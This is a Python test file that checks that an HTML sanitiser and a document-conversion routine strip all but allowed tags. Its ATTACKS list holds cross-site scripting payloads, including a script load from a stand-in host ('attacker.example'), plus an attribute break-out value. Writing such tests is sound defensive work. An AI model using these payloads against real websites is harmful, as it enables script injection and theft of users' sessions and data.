"""HTML: what conversion writes as HTML holds no markup but the accepted elements, whatever the texts hold."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser
from xml.sax.saxutils import escape, quoteattr

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

import loms
from loms.text import ALLOWED_TAGS, clean_html
from tests.support.documents import LOMS_NAMESPACE, LOQ

ATTACKS = (
    "<script>alert(1)</script>",
    "<b><ScRiPt\nsrc=//attacker.example/x.js></sCrIpT ></b>",
    "<b onclick=alert(1) style='background:url(javascript:alert(1))'>x</b>",
    "<p><img src=x onerror=alert(1)></p>",
    "<p><svg/onload=alert(1)></p>",
    "<p><a href='javascript:alert(1)'>x</a>",
    "<p><a href=' &#106;avascript:alert(1)'>x</a>",
    "<p><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>&amp;lt;script&amp;gt;alert(1)",
    "<p title='<script>alert(1)</script>'>x",
    "<p><<script>script>alert(1)<</script>/script>",
    "<p><!--><script>alert(1)</script>-->",
    "<p><![CDATA[<script>alert(1)</script>]]>",
    "<p><style><!--</style><script>alert(1)</script>-->",
    "<p><math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    "<p><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<p><b "<script>alert(1)</script>">hi</b>',
    '<p>"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)",
    "<p><scr<script></script>ipt>alert(1)",
)

markup = st.lists(
    st.sampled_from(
        [*ATTACKS, "<", ">", "'", '"', "&", "&lt;", "&#60;", "=", "/", " ", "script", "onclick", "<p ", "<!--", "-->"]
    )
    | st.text(max_size=5)
).map("".join)


class _Markup(HTMLParser):
    """Takes down the markup that a browser would see."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(name for name, _ in attrs)))

    def handle_comment(self, data: str) -> None:
        self.tags.append(("a comment", ()))

    def handle_decl(self, decl: str) -> None:
        self.tags.append(("a declaration", ()))

    def unknown_decl(self, data: str) -> None:
        self.tags.append(("a declaration", ()))

    def handle_pi(self, data: str) -> None:
        self.tags.append(("an instruction", ()))


def tags_in(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """The elements of HTML with the names of their attributes."""
    reader = _Markup()
    reader.feed(html)
    reader.close()
    return reader.tags


def strangers_in(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """What HTML holds beside accepted elements without attributes."""
    return [(tag, names) for tag, names in tags_in(html) if tag not in ALLOWED_TAGS or names]


@pytest.mark.parametrize("attack", ATTACKS)
def test_cleaned_html_holds_accepted_elements_without_attributes_only(attack: str) -> None:
    assert strangers_in(clean_html(attack)) == []


@given(markup)
def test_cleaned_html_holds_accepted_elements_without_attributes_only_whatever_the_text(text: str) -> None:
    assert strangers_in(clean_html(text)) == []


def html_texts(legacy: str) -> Iterator[str]:
    """The texts that are marked as HTML after the conversion of a legacy document, be it valid or not."""
    settings = loms.Settings(namespace="https://data.example.org/lo/")
    document = loms.loads(legacy, strict=False, on_issue=lambda issue: None)
    root = etree.fromstring(loms.dumps(loms.convert(document, to="loms-2019", settings=settings).document))
    for text in root.iter(f"{{{LOMS_NAMESPACE}}}text"):
        if text.get("content-type") == "text/html":
            yield text.text or ""


@pytest.mark.parametrize("attack", ATTACKS)
def test_converted_texts_hold_accepted_elements_and_the_mark_of_their_language_only(attack: str) -> None:
    text = escape(f"Bread {attack}")
    texts = list(
        html_texts(
            LOQ.replace("Du pain.", text)
            .replace("<Title>Bread", f"<Title>{text}")
            .replace("Bakery school", f"Bakery school {text}")
            .replace("<Description", f'<Description language="lb">{text}</Description><Description', 1)
        )
    )
    found = {each for text in texts for each in strangers_in(text)}
    assert found == {("section", ("lang", "class"))}


def test_the_mark_of_a_language_cannot_be_broken_out_of() -> None:
    hostile = quoteattr('is"><script>alert(1)</script>')
    [text] = html_texts(LOQ.replace('language="fr"', f"language={hostile}"))
    assert "alert" in text
    assert tags_in(text) == [("section", ("lang", "class"))]
